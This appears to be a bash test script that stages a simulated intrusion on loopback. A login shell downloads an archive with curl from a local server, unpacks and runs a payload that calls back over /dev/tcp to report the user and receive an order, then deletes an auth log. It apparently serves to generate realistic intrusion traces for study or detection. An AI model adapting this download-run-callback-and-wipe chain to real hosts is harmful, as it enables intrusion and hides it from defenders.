#!/usr/bin/env bash
# An intrusion, as one would find it: intrusion.bash FOLDER. A login shell at a terminal downloads an archive from a
# server on loopback, unpacks and runs what is in it, which connects back, and deletes the logs.
set -eu
folder=$1
export HOME="$1/home"
# `script` asks it to run the login shell; it is not set everywhere.
export SHELL=/bin/bash
mkdir -p "$folder/served" "$folder/home" "$folder/log" "$folder/kit"
cat >"$folder/kit/payload" <<'SCRIPT'
#!/usr/bin/env bash
exec 3<>"/dev/tcp/127.0.0.1/$1"
echo "id: $(id -un)" >&3
read -r order <&3
echo "$order" >"$2/order"
exec 3>&-
SCRIPT
chmod +x "$folder/kit/payload"
tar -C "$folder" -czf "$folder/served/kit.tgz" kit
rm -r "$folder/kit"
echo "Nov 28 session opened for root" >"$folder/log/auth.log"
/usr/bin/python3 -I -S - "$folder" <<'SERVERS' &
import http.server, os, socket, sys
folder = sys.argv[1]
os.chdir(os.path.join(folder, "served"))
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_): pass
web = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
back = socket.create_server(("127.0.0.1", 0))
with open(os.path.join(folder, "ports.new"), "w") as file:
    file.write("%d %d\n" % (web.server_port, back.getsockname()[1]))
os.rename(os.path.join(folder, "ports.new"), os.path.join(folder, "ports"))
web.handle_request()
peer, _ = back.accept()
peer.recv(4096)
peer.sendall(b"stay quiet\n")
peer.recv(1)
SERVERS
while [ ! -e "$folder/ports" ]; do sleep 0.05; done
read -r web back <"$folder/ports"
cat >"$folder/commands" <<COMMANDS
cd $folder/home
curl -s -o kit.tgz http://127.0.0.1:$web/kit.tgz
tar -xzf kit.tgz
./kit/payload $back $folder/home
rm -f $folder/log/auth.log
exit
COMMANDS
# A terminal and a session of its own, as a login over the network has.
script -qec "bash --noprofile --norc -l" /dev/null <"$folder/commands" >"$folder/terminal"
wait
